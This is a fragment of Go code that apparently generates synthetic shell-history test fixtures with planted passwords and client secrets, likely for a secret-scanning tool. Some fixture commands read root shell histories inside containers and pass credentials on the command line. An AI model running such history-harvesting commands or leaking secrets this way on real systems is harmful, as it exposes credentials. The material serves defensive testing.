`, V{"a": g.ghs()}, "GOPRIVATE=github.com/fernhill/*")

	g.shellhistAdd("shellhist/bash-history-wp-cli", `
cd /var/www/blog
wp core version --allow-root
wp user update admin --user_pass='«a»' --allow-root
wp plugin update --all --allow-root
wp cache flush --allow-root
`, V{"a": g.pwStrong()}, "wp plugin update --all --allow-root", "/var/www/blog")

	g.shellhistAdd("shellhist/docker-exec-cat-history", `
$ docker exec legacy-app cat /root/.bash_history | tail -5
apt-get update && apt-get install -y vim
vi /app/config/parameters.yml
php bin/console doctrine:database:create
mysql -h mysql -u symfony -p«a» symfony < /tmp/seed.sql
exit
`, V{"a": g.pwURL()}, "php bin/console doctrine:database:create", "legacy-app")

	g.shellhistAdd("shellhist/kubectl-exec-ash-history", `
$ kubectl -n edge exec deploy/nginx-gw -- cat /root/.ash_history
apk add curl
curl -sk https://keycloak.edge.svc:8443/realms/master/protocol/openid-connect/token -d grant_type=client_credentials -d client_id=gateway -d client_secret=«a»
exit
`, V{"a": g.an(32)}, "https://keycloak.edge.svc:8443/realms/master/protocol/openid-connect/token", "client_id=gateway")

	g.shellhistAdd("shellhist/benign-ps-aux", `
$ ps aux --sort=-%mem | head -4
USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND
postgres  «_p1»  3.1 12.4 4388120 2041224 ?   Ss   Jun25  41:02 postgres: checkpointer
redis     «_p2»  0.9  4.2 1210440 690312 ?    Ssl  Jun25  12:11 /usr/bin/redis-server 127.0.0.1:6379
www-data  «_p3»  0.4  1.1 242188 180440 ?     S    09:01   0:03 php-fpm: pool www
`, V{"_p1": g.shellhistPID(), "_p2": g.shellhistPID(), "_p3": g.shellhistPID()}, "/usr/bin/redis-server 127.0.0.1:6379")
}
